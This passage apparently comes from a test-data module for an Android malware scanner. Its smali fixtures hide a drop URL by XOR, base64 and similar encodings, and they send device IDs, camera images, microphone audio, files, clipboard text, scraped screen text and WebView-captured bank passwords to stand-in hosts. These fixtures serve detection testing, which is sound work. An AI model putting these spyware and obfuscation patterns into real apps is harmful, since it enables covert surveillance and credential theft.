"""The usual ways in which apps hide an address or move data, each in a few lines of code."""

# ruff: noqa: E501 (method signatures are as long as they are)

from collections.abc import Callable

import pytest

from rogue_scan.apk.code.types import CodeFacts, NoResources

Analyse = Callable[..., CodeFacts]
URL = "http://drop.hidden.example/in"

MAIN = """
.class Lapp/Main; Landroid/app/Activity;
.method onCreate(Landroid/os/Bundle;)V 13
"""
IMEI = """
const-string v0, "phone"
invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/telephony/TelephonyManager;
invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
move-result-object v1
"""
SEND = """
const-string v0, "http://c2.example/x"
invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
return-void
"""


class Assets(NoResources):
    def __init__(self, files: dict[str, bytes]) -> None:
        self.files = files

    def asset(self, path: str) -> bytes | None:
        return self.files.get(path)


# name: (code that leaves the address in v0, further classes, assets)
HIDDEN: dict[str, tuple[str, str, dict[str, bytes]]] = {
    "hex+multibyte xor in helper": (
        """
const-string v1, "03470d51511c5645195c090f035a1d450e5d5744135214510756564805"
const-string v2, "k3y!"
invoke-static {v1, v2} Lapp/D;->d(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String;
move-result-object v0
""",
        """
.class Lapp/D;
.method static d(Ljava/lang/String;Ljava/lang/String;)Ljava/lang/String; 12
new-instance v0, Ljava/lang/StringBuilder;
invoke-direct {v0} Ljava/lang/StringBuilder;-><init>()V
const/4 v1, 0
:l
invoke-virtual {v10} Ljava/lang/String;->length()I
move-result v2
if-ge v1, v2, :e
add-int/lit8 v3, v1, 2
invoke-virtual {v10, v1, v3} Ljava/lang/String;->substring(II)Ljava/lang/String;
move-result-object v4
const/16 v5, 16
invoke-static {v4, v5} Ljava/lang/Integer;->parseInt(Ljava/lang/String;I)I
move-result v4
div-int/lit8 v5, v1, 2
invoke-virtual {v11} Ljava/lang/String;->length()I
move-result v6
rem-int v5, v5, v6
invoke-virtual {v11, v5} Ljava/lang/String;->charAt(I)C
move-result v5
xor-int v4, v4, v5
int-to-char v4, v4
invoke-virtual {v0, v4} Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
add-int/lit8 v1, v1, 2
goto :l
:e
invoke-virtual {v0} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
return-object v0
""",
        {},
    ),
    "substitution table": (
        """
const-string v1, "izzh://rkgh.iorrtf.tbqdhst/of"
const-string v2, "qwertyuiopasdfghjklzxcvbnm"
const-string v3, "abcdefghijklmnopqrstuvwxyz"
new-instance v4, Ljava/lang/StringBuilder;
invoke-direct {v4} Ljava/lang/StringBuilder;-><init>()V
const/4 v5, 0
:l
invoke-virtual {v1} Ljava/lang/String;->length()I
move-result v6
if-ge v5, v6, :e
invoke-virtual {v1, v5} Ljava/lang/String;->charAt(I)C
move-result v6
invoke-virtual {v2, v6} Ljava/lang/String;->indexOf(I)I
move-result v7
if-ltz v7, :keep
invoke-virtual {v3, v7} Ljava/lang/String;->charAt(I)C
move-result v6
:keep
invoke-virtual {v4, v6} Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
add-int/lit8 v5, v5, 1
goto :l
:e
invoke-virtual {v4} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
""",
        "",
        {},
    ),
    "base64+gzip": (
        """
const-string v1, "H4sIACQqBmsC/8soKSmw0tdPKcov0MvITElJzdNLrUjMLchJ1c/MAwA1mYbVHQAAAA=="
const/4 v2, 0
invoke-static {v1, v2} Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
move-result-object v1
new-instance v2, Ljava/io/ByteArrayInputStream;
invoke-direct {v2, v1} Ljava/io/ByteArrayInputStream;-><init>([B)V
new-instance v3, Ljava/util/zip/GZIPInputStream;
invoke-direct {v3, v2} Ljava/util/zip/GZIPInputStream;-><init>(Ljava/io/InputStream;)V
new-instance v4, Ljava/io/BufferedReader;
new-instance v5, Ljava/io/InputStreamReader;
invoke-direct {v5, v3} Ljava/io/InputStreamReader;-><init>(Ljava/io/InputStream;)V
invoke-direct {v4, v5} Ljava/io/BufferedReader;-><init>(Ljava/io/Reader;)V
invoke-virtual {v4} Ljava/io/BufferedReader;->readLine()Ljava/lang/String;
move-result-object v0
""",
        "",
        {},
    ),
    "asset base64": (
        """
invoke-virtual {v11} Lapp/Main;->getAssets()Landroid/content/res/AssetManager;
move-result-object v1
const-string v2, "cfg.bin"
invoke-virtual {v1, v2} Landroid/content/res/AssetManager;->open(Ljava/lang/String;)Ljava/io/InputStream;
move-result-object v1
invoke-virtual {v1} Ljava/io/InputStream;->available()I
move-result v2
new-array v3, v2, [B
invoke-virtual {v1, v3} Ljava/io/InputStream;->read([B)I
new-instance v4, Ljava/lang/String;
invoke-direct {v4, v3} Ljava/lang/String;-><init>([B)V
const/4 v5, 0
invoke-static {v4, v5} Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
move-result-object v4
new-instance v0, Ljava/lang/String;
invoke-direct {v0, v4} Ljava/lang/String;-><init>([B)V
""",
        "",
        {"cfg.bin": b"aHR0cDovL2Ryb3AuaGlkZGVuLmV4YW1wbGUvaW4="},
    ),
    "asset xor 1024 buffer loop": (
        """
invoke-virtual {v11} Lapp/Main;->getAssets()Landroid/content/res/AssetManager;
move-result-object v1
const-string v2, "cfg.bin"
invoke-virtual {v1, v2} Landroid/content/res/AssetManager;->open(Ljava/lang/String;)Ljava/io/InputStream;
move-result-object v1
new-instance v7, Ljava/io/ByteArrayOutputStream;
invoke-direct {v7} Ljava/io/ByteArrayOutputStream;-><init>()V
const/16 v2, 1024
new-array v3, v2, [B
:l
invoke-virtual {v1, v3} Ljava/io/InputStream;->read([B)I
move-result v4
const/4 v5, -1
if-eq v4, v5, :e
const/4 v5, 0
invoke-virtual {v7, v3, v5, v4} Ljava/io/ByteArrayOutputStream;->write([BII)V
goto :l
:e
invoke-virtual {v7} Ljava/io/ByteArrayOutputStream;->toByteArray()[B
move-result-object v1
const/4 v2, 0
:m
array-length v3, v1
if-ge v2, v3, :f
aget-byte v4, v1, v2
xor-int/lit8 v4, v4, 0x33
int-to-byte v4, v4
aput-byte v4, v1, v2
add-int/lit8 v2, v2, 1
goto :m
:f
new-instance v0, Ljava/lang/String;
const-string v3, "UTF-8"
invoke-direct {v0, v1, v3} Ljava/lang/String;-><init>([BLjava/lang/String;)V
""",
        "",
        {"cfg.bin": b"[GGC\t\x1c\x1cWA\\C\x1d[ZWWV]\x1dVKR^C_V\x1cZ]"},
    ),
    "static array of strings in clinit": (
        """
const/4 v1, 1
sget-object v2, Lapp/C;->T:[Ljava/lang/String;
aget-object v0, v2, v1
""",
        """
.class Lapp/C;
.field static T:[Ljava/lang/String;
.method static <clinit>()V 6
const/4 v0, 2
new-array v1, v0, [Ljava/lang/String;
const/4 v0, 0
const-string v2, "xx"
aput-object v2, v1, v0
const/4 v0, 1
const-string v2, "aHR0cDovL2Ryb3AuaGlkZGVuLmV4YW1wbGUvaW4="
const/4 v3, 0
invoke-static {v2, v3} Landroid/util/Base64;->decode(Ljava/lang/String;I)[B
move-result-object v2
new-instance v3, Ljava/lang/String;
invoke-direct {v3, v2} Ljava/lang/String;-><init>([B)V
aput-object v3, v1, v0
sput-object v1, Lapp/C;->T:[Ljava/lang/String;
return-void
""",
        {},
    ),
    "int array to chars insert(0)": (
        """
const/16 v1, 29
new-array v2, v1, [I
fill-array-data v2, :data
new-instance v3, Ljava/lang/StringBuilder;
invoke-direct {v3} Ljava/lang/StringBuilder;-><init>()V
add-int/lit8 v1, v1, -1
const/4 v5, 0
:l
if-ltz v1, :e
aget v4, v2, v1
int-to-char v4, v4
invoke-virtual {v3, v5, v4} Ljava/lang/StringBuilder;->insert(IC)Ljava/lang/StringBuilder;
add-int/lit8 v1, v1, -1
goto :l
:e
invoke-virtual {v3} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
goto :z
nop
.array :data 4 104 116 116 112 58 47 47 100 114 111 112 46 104 105 100 100 101 110 46 101 120 97 109 112 108 101 47 105 110
:z
""",
        "",
        {},
    ),
    "list of pieces joined": (
        """
new-instance v1, Ljava/util/ArrayList;
invoke-direct {v1} Ljava/util/ArrayList;-><init>()V
const-string v2, "http://drop"
invoke-interface {v1, v2} Ljava/util/List;->add(Ljava/lang/Object;)Z
const-string v2, "hidden"
invoke-interface {v1, v2} Ljava/util/List;->add(Ljava/lang/Object;)Z
const-string v2, "example/in"
invoke-interface {v1, v2} Ljava/util/List;->add(Ljava/lang/Object;)Z
const-string v2, "."
invoke-static {v2, v1} Landroid/text/TextUtils;->join(Ljava/lang/CharSequence;Ljava/lang/Iterable;)Ljava/lang/String;
move-result-object v0
""",
        "",
        {},
    ),
    "iterator over list of pieces": (
        """
new-instance v1, Ljava/util/ArrayList;
invoke-direct {v1} Ljava/util/ArrayList;-><init>()V
const-string v2, "http://drop."
invoke-virtual {v1, v2} Ljava/util/ArrayList;->add(Ljava/lang/Object;)Z
const-string v2, "hidden.example/in"
invoke-virtual {v1, v2} Ljava/util/ArrayList;->add(Ljava/lang/Object;)Z
new-instance v3, Ljava/lang/StringBuilder;
invoke-direct {v3} Ljava/lang/StringBuilder;-><init>()V
invoke-virtual {v1} Ljava/util/ArrayList;->iterator()Ljava/util/Iterator;
move-result-object v4
:l
invoke-interface {v4} Ljava/util/Iterator;->hasNext()Z
move-result v5
if-eqz v5, :e
invoke-interface {v4} Ljava/util/Iterator;->next()Ljava/lang/Object;
move-result-object v5
check-cast v5, Ljava/lang/String;
invoke-virtual {v3, v5} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
goto :l
:e
invoke-virtual {v3} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
""",
        "",
        {},
    ),
    "URL(scheme,host,file)": (
        """
const-string v0, "http://drop.hidden.example/in"

""",
        "",
        {},
    ),
    "split on comma parse ints": (
        """
const-string v1, "111,123,123,119,65,54,54,107,121,118,119,53,111,112,107,107,108,117,53,108,127,104,116,119,115,108,54,112,117"
const-string v2, ","
invoke-virtual {v1, v2} Ljava/lang/String;->split(Ljava/lang/String;)[Ljava/lang/String;
move-result-object v1
new-instance v3, Ljava/lang/StringBuffer;
invoke-direct {v3} Ljava/lang/StringBuffer;-><init>()V
const/4 v4, 0
:l
array-length v5, v1
if-ge v4, v5, :e
aget-object v6, v1, v4
invoke-static {v6} Ljava/lang/Integer;->parseInt(Ljava/lang/String;)I
move-result v6
add-int/lit8 v6, v6, -7
int-to-char v6, v6
invoke-virtual {v3, v6} Ljava/lang/StringBuffer;->append(C)Ljava/lang/StringBuffer;
add-int/lit8 v4, v4, 1
goto :l
:e
invoke-virtual {v3} Ljava/lang/StringBuffer;->toString()Ljava/lang/String;
move-result-object v0
""",
        "",
        {},
    ),
    "instance field key, decode method": (
        """
new-instance v1, Lapp/K;
const/16 v2, 0x21
invoke-direct {v1, v2} Lapp/K;-><init>(I)V
const-string v2, "IUUQESNQIHEEDODY@LQMDHO"
invoke-virtual {v1, v2} Lapp/K;->x(Ljava/lang/String;)Ljava/lang/String;
move-result-object v0
""",
        """
.class Lapp/K;
.field k:I
.method <init>(I)V 3
invoke-direct {v1} Ljava/lang/Object;-><init>()V
iput v2, v1, Lapp/K;->k:I
return-void
.method x(Ljava/lang/String;)Ljava/lang/String; 9
invoke-virtual {v8} Ljava/lang/String;->toCharArray()[C
move-result-object v0
const/4 v1, 0
:l
array-length v2, v0
if-ge v1, v2, :e
aget-char v3, v0, v1
iget v4, v7, Lapp/K;->k:I
xor-int/2addr v3, v4
int-to-char v3, v3
aput-char v3, v0, v1
add-int/lit8 v1, v1, 1
goto :l
:e
new-instance v5, Ljava/lang/String;
invoke-direct {v5, v0} Ljava/lang/String;-><init>([C)V
return-object v5
""",
        {},
    ),
}

# name: (code of the activity and further classes; @IMEI@ takes the identity into v1, @SEND@ posts v1), the flow
MOVED: dict[str, tuple[str, tuple[str, str, str]]] = {
    "apache": (
        """
@IMEI@

new-instance v2, Lorg/apache/http/client/methods/HttpPost;
const-string v3, "http://ap.drop.example/a"
invoke-direct {v2, v3} Lorg/apache/http/client/methods/HttpPost;-><init>(Ljava/lang/String;)V
new-instance v4, Ljava/util/ArrayList;
invoke-direct {v4} Ljava/util/ArrayList;-><init>()V
new-instance v5, Lorg/apache/http/message/BasicNameValuePair;
const-string v6, "imei"
invoke-direct {v5, v6, v1} Lorg/apache/http/message/BasicNameValuePair;-><init>(Ljava/lang/String;Ljava/lang/String;)V
invoke-interface {v4, v5} Ljava/util/List;->add(Ljava/lang/Object;)Z
new-instance v5, Lorg/apache/http/client/entity/UrlEncodedFormEntity;
invoke-direct {v5, v4} Lorg/apache/http/client/entity/UrlEncodedFormEntity;-><init>(Ljava/util/List;)V
invoke-virtual {v2, v5} Lorg/apache/http/client/methods/HttpPost;->setEntity(Lorg/apache/http/HttpEntity;)V
new-instance v6, Lorg/apache/http/impl/client/DefaultHttpClient;
invoke-direct {v6} Lorg/apache/http/impl/client/DefaultHttpClient;-><init>()V
invoke-interface {v6, v2} Lorg/apache/http/client/HttpClient;->execute(Lorg/apache/http/client/methods/HttpUriRequest;)Lorg/apache/http/HttpResponse;
return-void
""",
        ("device-id", "http", "ap.drop.example"),
    ),
    "volley": (
        """
@IMEI@

new-instance v2, Lapp/Rq;
const-string v3, "http://vo.drop.example/a"
invoke-direct {v2, v3, v1} Lapp/Rq;-><init>(Ljava/lang/String;Ljava/lang/String;)V
invoke-static {v11} Lcom/android/volley/toolbox/Volley;->newRequestQueue(Landroid/content/Context;)Lcom/android/volley/RequestQueue;
move-result-object v4
invoke-virtual {v4, v2} Lcom/android/volley/RequestQueue;->add(Lcom/android/volley/Request;)Lcom/android/volley/Request;
return-void
.class Lapp/Rq; Lcom/android/volley/toolbox/StringRequest;
.field d:Ljava/lang/String;
.method <init>(Ljava/lang/String;Ljava/lang/String;)V 8
iput-object v7, v5, Lapp/Rq;->d:Ljava/lang/String;
const/4 v0, 1
const/4 v1, 0
move-object v2, v6
move-object v3, v1
invoke-direct {v5, v0, v2, v1, v1} Lcom/android/volley/toolbox/StringRequest;-><init>(ILjava/lang/String;Lcom/android/volley/Response$Listener;Lcom/android/volley/Response$ErrorListener;)V
return-void
.method getParams()Ljava/util/Map; 5
new-instance v0, Ljava/util/HashMap;
invoke-direct {v0} Ljava/util/HashMap;-><init>()V
const-string v1, "d"
iget-object v2, v4, Lapp/Rq;->d:Ljava/lang/String;
invoke-interface {v0, v1, v2} Ljava/util/Map;->put(Ljava/lang/Object;Ljava/lang/Object;)Ljava/lang/Object;
return-object v0
""",
        ("device-id", "http", "vo.drop.example"),
    ),
    "json array nested": (
        """
@IMEI@

new-instance v2, Lorg/json/JSONArray;
invoke-direct {v2} Lorg/json/JSONArray;-><init>()V
new-instance v3, Lorg/json/JSONObject;
invoke-direct {v3} Lorg/json/JSONObject;-><init>()V
const-string v4, "i"
invoke-virtual {v3, v4, v1} Lorg/json/JSONObject;->put(Ljava/lang/String;Ljava/lang/Object;)Lorg/json/JSONObject;
invoke-virtual {v2, v3} Lorg/json/JSONArray;->put(Ljava/lang/Object;)Lorg/json/JSONArray;
invoke-virtual {v2} Lorg/json/JSONArray;->toString()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "gzip writer": (
        """
@IMEI@

new-instance v0, Ljava/net/URL;
const-string v2, "http://c2.example/z"
invoke-direct {v0, v2} Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v0} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
move-result-object v2
invoke-virtual {v2} Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
move-result-object v3
new-instance v4, Ljava/util/zip/GZIPOutputStream;
invoke-direct {v4, v3} Ljava/util/zip/GZIPOutputStream;-><init>(Ljava/io/OutputStream;)V
new-instance v5, Ljava/io/OutputStreamWriter;
const-string v6, "UTF-8"
invoke-direct {v5, v4, v6} Ljava/io/OutputStreamWriter;-><init>(Ljava/io/OutputStream;Ljava/lang/String;)V
new-instance v6, Ljava/io/BufferedWriter;
invoke-direct {v6, v5} Ljava/io/BufferedWriter;-><init>(Ljava/io/Writer;)V
invoke-virtual {v6, v1} Ljava/io/BufferedWriter;->write(Ljava/lang/String;)V
return-void
""",
        ("device-id", "http", "c2.example"),
    ),
    "camera": (
        """
invoke-static {} Landroid/hardware/Camera;->open()Landroid/hardware/Camera;
move-result-object v0
new-instance v1, Lapp/Pic;
invoke-direct {v1} Lapp/Pic;-><init>()V
const/4 v2, 0
invoke-virtual {v0, v2, v2, v1} Landroid/hardware/Camera;->takePicture(Landroid/hardware/Camera$ShutterCallback;Landroid/hardware/Camera$PictureCallback;Landroid/hardware/Camera$PictureCallback;)V
return-void
.class Lapp/Pic; Ljava/lang/Object; Landroid/hardware/Camera$PictureCallback;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method onPictureTaken([BLandroid/hardware/Camera;)V 8
const/4 v0, 0
invoke-static {v6, v0} Landroid/util/Base64;->encodeToString([BI)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("camera", "http", "c2.example"),
    ),
    "audio stream to socket": (
        """
new-instance v1, Landroid/media/AudioRecord;
const/4 v2, 1
invoke-direct/range {v1, v2, v3, v4, v5, v6} Landroid/media/AudioRecord;-><init>(IIIII)V
const/16 v7, 512
new-array v7, v7, [B
new-instance v2, Ljava/net/Socket;
const-string v3, "mic.example"
const/16 v4, 7000
invoke-direct {v2, v3, v4} Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
invoke-virtual {v2} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v5
:l
const/4 v8, 0
array-length v9, v7
invoke-virtual {v1, v7, v8, v9} Landroid/media/AudioRecord;->read([BII)I
move-result v3
if-lez v3, :e
invoke-virtual {v5, v7, v8, v3} Ljava/io/OutputStream;->write([BII)V
goto :l
:e
return-void
""",
        ("audio", "socket", "mic.example:7000"),
    ),
    "files to ftp by hand": (
        """
invoke-static {} Landroid/os/Environment;->getExternalStorageDirectory()Ljava/io/File;
move-result-object v1
new-instance v2, Ljava/io/File;
const-string v3, "DCIM"
invoke-direct {v2, v1, v3} Ljava/io/File;-><init>(Ljava/io/File;Ljava/lang/String;)V
invoke-virtual {v2} Ljava/io/File;->listFiles()[Ljava/io/File;
move-result-object v1
const/4 v2, 0
aget-object v1, v1, v2
new-instance v2, Ljava/io/FileInputStream;
invoke-direct {v2, v1} Ljava/io/FileInputStream;-><init>(Ljava/io/File;)V
const/16 v3, 512
new-array v3, v3, [B
invoke-virtual {v2, v3} Ljava/io/FileInputStream;->read([B)I
new-instance v4, Ljava/net/Socket;
const-string v5, "ftp.drop.example"
const/16 v6, 21
invoke-direct {v4, v5, v6} Ljava/net/Socket;-><init>(Ljava/lang/String;I)V
invoke-virtual {v4} Ljava/net/Socket;->getOutputStream()Ljava/io/OutputStream;
move-result-object v5
invoke-virtual {v5, v3} Ljava/io/OutputStream;->write([B)V
return-void
""",
        ("files", "ftp", "ftp.drop.example:21"),
    ),
    "clip listener": (
        """
const-string v0, "clipboard"
invoke-virtual {v11, v0} Lapp/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/content/ClipboardManager;
new-instance v1, Lapp/L;
invoke-direct {v1, v0} Lapp/L;-><init>(Landroid/content/ClipboardManager;)V
invoke-virtual {v0, v1} Landroid/content/ClipboardManager;->addPrimaryClipChangedListener(Landroid/content/ClipboardManager$OnPrimaryClipChangedListener;)V
return-void
.class Lapp/L; Ljava/lang/Object; Landroid/content/ClipboardManager$OnPrimaryClipChangedListener;
.field m:Landroid/content/ClipboardManager;
.method <init>(Landroid/content/ClipboardManager;)V 3
invoke-direct {v1} Ljava/lang/Object;-><init>()V
iput-object v2, v1, Lapp/L;->m:Landroid/content/ClipboardManager;
return-void
.method onPrimaryClipChanged()V 8
iget-object v0, v7, Lapp/L;->m:Landroid/content/ClipboardManager;
invoke-virtual {v0} Landroid/content/ClipboardManager;->getPrimaryClip()Landroid/content/ClipData;
move-result-object v0
const/4 v1, 0
invoke-virtual {v0, v1} Landroid/content/ClipData;->getItemAt(I)Landroid/content/ClipData$Item;
move-result-object v0
invoke-virtual {v0} Landroid/content/ClipData$Item;->getText()Ljava/lang/CharSequence;
move-result-object v0
invoke-interface {v0} Ljava/lang/CharSequence;->toString()Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("clipboard", "http", "c2.example"),
    ),
    "node text recursion": (
        """
return-void
.class Lapp/A; Landroid/accessibilityservice/AccessibilityService;
.method onAccessibilityEvent(Landroid/view/accessibility/AccessibilityEvent;)V 8
invoke-virtual {v6} Lapp/A;->getRootInActiveWindow()Landroid/view/accessibility/AccessibilityNodeInfo;
move-result-object v0
invoke-virtual {v6, v0} Lapp/A;->walk(Landroid/view/accessibility/AccessibilityNodeInfo;)Ljava/lang/String;
move-result-object v1
@SEND@

.method walk(Landroid/view/accessibility/AccessibilityNodeInfo;)Ljava/lang/String; 8
if-nez v7, :go
const-string v0, ""
return-object v0
:go
new-instance v0, Ljava/lang/StringBuilder;
invoke-direct {v0} Ljava/lang/StringBuilder;-><init>()V
invoke-virtual {v7} Landroid/view/accessibility/AccessibilityNodeInfo;->getText()Ljava/lang/CharSequence;
move-result-object v1
invoke-virtual {v0, v1} Ljava/lang/StringBuilder;->append(Ljava/lang/CharSequence;)Ljava/lang/StringBuilder;
const/4 v2, 0
:l
invoke-virtual {v7} Landroid/view/accessibility/AccessibilityNodeInfo;->getChildCount()I
move-result v3
if-ge v2, v3, :e
invoke-virtual {v7, v2} Landroid/view/accessibility/AccessibilityNodeInfo;->getChild(I)Landroid/view/accessibility/AccessibilityNodeInfo;
move-result-object v3
invoke-virtual {v6, v3} Lapp/A;->walk(Landroid/view/accessibility/AccessibilityNodeInfo;)Ljava/lang/String;
move-result-object v3
invoke-virtual {v0, v3} Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
add-int/lit8 v2, v2, 1
goto :l
:e
invoke-virtual {v0} Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
move-result-object v0
return-object v0
""",
        ("screen", "http", "c2.example"),
    ),
    "injected script via callback": (
        """
new-instance v0, Landroid/webkit/WebView;
invoke-direct {v0, v11} Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V
const-string v1, "(function(){return document.querySelector('input[type=password]').value})()"
new-instance v2, Lapp/V;
invoke-direct {v2} Lapp/V;-><init>()V
invoke-virtual {v0, v1, v2} Landroid/webkit/WebView;->evaluateJavascript(Ljava/lang/String;Landroid/webkit/ValueCallback;)V
return-void
.class Lapp/V; Ljava/lang/Object; Landroid/webkit/ValueCallback;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method onReceiveValue(Ljava/lang/Object;)V 8
check-cast v7, Ljava/lang/String;
move-object v1, v7
@SEND@
""",
        ("account-password", "http", "c2.example"),
    ),
    "injected script javascript: + bridge": (
        """
new-instance v0, Landroid/webkit/WebView;
invoke-direct {v0, v11} Landroid/webkit/WebView;-><init>(Landroid/content/Context;)V
new-instance v2, Lapp/V;
invoke-direct {v2} Lapp/V;-><init>()V
const-string v3, "Grab"
invoke-virtual {v0, v2, v3} Landroid/webkit/WebView;->addJavascriptInterface(Ljava/lang/Object;Ljava/lang/String;)V
const-string v1, "https://login.bank.example/"
invoke-virtual {v0, v1} Landroid/webkit/WebView;->loadUrl(Ljava/lang/String;)V
const-string v1, "javascript:document.forms[0].onsubmit=function(){Grab.take(document.getElementById('user').value,document.getElementById('password').value)}"
invoke-virtual {v0, v1} Landroid/webkit/WebView;->loadUrl(Ljava/lang/String;)V
return-void
.class Lapp/V;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method take(Ljava/lang/String;Ljava/lang/String;)V 8
move-object v1, v7
@SEND@
""",
        ("account-password", "http", "c2.example"),
    ),
    "bound service": (
        """
@IMEI@

new-instance v2, Landroid/content/Intent;
const-class v3, Lapp/S;
invoke-direct {v2, v11, v3} Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
new-instance v4, Lapp/Conn;
invoke-direct {v4, v1} Lapp/Conn;-><init>(Ljava/lang/String;)V
const/4 v5, 1
invoke-virtual {v11, v2, v4, v5} Lapp/Main;->bindService(Landroid/content/Intent;Landroid/content/ServiceConnection;I)Z
return-void
.class Lapp/Conn; Ljava/lang/Object; Landroid/content/ServiceConnection;
.field d:Ljava/lang/String;
.method <init>(Ljava/lang/String;)V 3
invoke-direct {v1} Ljava/lang/Object;-><init>()V
iput-object v2, v1, Lapp/Conn;->d:Ljava/lang/String;
return-void
.method onServiceConnected(Landroid/content/ComponentName;Landroid/os/IBinder;)V 6
check-cast v5, Lapp/B;
iget-object v0, v3, Lapp/Conn;->d:Ljava/lang/String;
invoke-virtual {v5, v0} Lapp/B;->put(Ljava/lang/String;)V
return-void
.class Lapp/B; Landroid/os/Binder;
.method <init>()V 2
invoke-direct {v1} Landroid/os/Binder;-><init>()V
return-void
.method put(Ljava/lang/String;)V 8
move-object v1, v7
@SEND@

.class Lapp/S; Landroid/app/Service;
.method onBind(Landroid/content/Intent;)Landroid/os/IBinder; 4
new-instance v0, Lapp/B;
invoke-direct {v0} Lapp/B;-><init>()V
return-object v0
""",
        ("device-id", "http", "c2.example"),
    ),
    "registered receiver": (
        """
@IMEI@

new-instance v2, Lapp/Rcv;
invoke-direct {v2} Lapp/Rcv;-><init>()V
new-instance v3, Landroid/content/IntentFilter;
const-string v4, "app.GO"
invoke-direct {v3, v4} Landroid/content/IntentFilter;-><init>(Ljava/lang/String;)V
invoke-virtual {v11, v2, v3} Lapp/Main;->registerReceiver(Landroid/content/BroadcastReceiver;Landroid/content/IntentFilter;)Landroid/content/Intent;
new-instance v2, Landroid/content/Intent;
invoke-direct {v2, v4} Landroid/content/Intent;-><init>(Ljava/lang/String;)V
const-string v4, "d"
invoke-virtual {v2, v4, v1} Landroid/content/Intent;->putExtra(Ljava/lang/String;Ljava/lang/String;)Landroid/content/Intent;
invoke-virtual {v11, v2} Lapp/Main;->sendBroadcast(Landroid/content/Intent;)V
return-void
.class Lapp/Rcv; Landroid/content/BroadcastReceiver;
.method <init>()V 2
invoke-direct {v1} Landroid/content/BroadcastReceiver;-><init>()V
return-void
.method onReceive(Landroid/content/Context;Landroid/content/Intent;)V 8
const-string v0, "d"
invoke-virtual {v7, v0} Landroid/content/Intent;->getStringExtra(Ljava/lang/String;)Ljava/lang/String;
move-result-object v1
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "callable future": (
        """
@IMEI@

new-instance v2, Lapp/Call;
invoke-direct {v2, v1} Lapp/Call;-><init>(Ljava/lang/String;)V
invoke-static {} Ljava/util/concurrent/Executors;->newSingleThreadExecutor()Ljava/util/concurrent/ExecutorService;
move-result-object v3
invoke-interface {v3, v2} Ljava/util/concurrent/ExecutorService;->submit(Ljava/util/concurrent/Callable;)Ljava/util/concurrent/Future;
move-result-object v3
invoke-interface {v3} Ljava/util/concurrent/Future;->get()Ljava/lang/Object;
move-result-object v1
check-cast v1, Ljava/lang/String;
@SEND@

.class Lapp/Call; Ljava/lang/Object; Ljava/util/concurrent/Callable;
.field d:Ljava/lang/String;
.method <init>(Ljava/lang/String;)V 3
invoke-direct {v1} Ljava/lang/Object;-><init>()V
iput-object v2, v1, Lapp/Call;->d:Ljava/lang/String;
return-void
.method call()Ljava/lang/Object; 3
iget-object v0, v2, Lapp/Call;->d:Ljava/lang/String;
return-object v0
""",
        ("device-id", "http", "c2.example"),
    ),
    "rx map": (
        """
@IMEI@

invoke-static {v1} Lio/reactivex/Observable;->just(Ljava/lang/Object;)Lio/reactivex/Observable;
move-result-object v2
new-instance v3, Lapp/C;
invoke-direct {v3} Lapp/C;-><init>()V
invoke-virtual {v2, v3} Lio/reactivex/Observable;->subscribe(Lio/reactivex/functions/Consumer;)Lio/reactivex/disposables/Disposable;
return-void
.class Lapp/C; Ljava/lang/Object; Lio/reactivex/functions/Consumer;
.method <init>()V 2
invoke-direct {v1} Ljava/lang/Object;-><init>()V
return-void
.method accept(Ljava/lang/Object;)V 8
check-cast v7, Ljava/lang/String;
move-object v1, v7
@SEND@
""",
        ("device-id", "http", "c2.example"),
    ),
    "coroutine lambda": (
        """
@IMEI@

new-instance v3, Lapp/C;
invoke-direct {v3, v1} Lapp/C;-><init>(Ljava/lang/String;)V
const/4 v4, 0
move-object v2, v4
move-object v5, v4
invoke-static {v2, v4, v5, v3} Lkotlinx/coroutines/BuildersKt;->launch(Lkotlinx/coroutines/CoroutineScope;Lkotlin/coroutines/CoroutineContext;Lkotlinx/coroutines/CoroutineStart;Lkotlin/jvm/functions/Function2;)Lkotlinx/coroutines/Job;
return-void
.class Lapp/C; Lkotlin/coroutines/jvm/internal/SuspendLambda; Lkotlin/jvm/functions/Function2;
.field d:Ljava/lang/String;
.method <init>(Ljava/lang/String;)V 3
const/4 v0, 2
iput-object v2, v1, Lapp/C;->d:Ljava/lang/String;
return-void
.method invokeSuspend(Ljava/lang/Object;)Ljava/lang/Object; 8
iget-object v1, v6, Lapp/C;->d:Ljava/lang/String;
const-string v0, "http://c2.example/x"
invoke-static {v0, v1} Lapp/Net;->post(Ljava/lang/String;Ljava/lang/String;)V
const/4 v0, 0
return-object v0
""",
        ("device-id", "http", "c2.example"),
    ),
    "sqlite": (
        """
@IMEI@

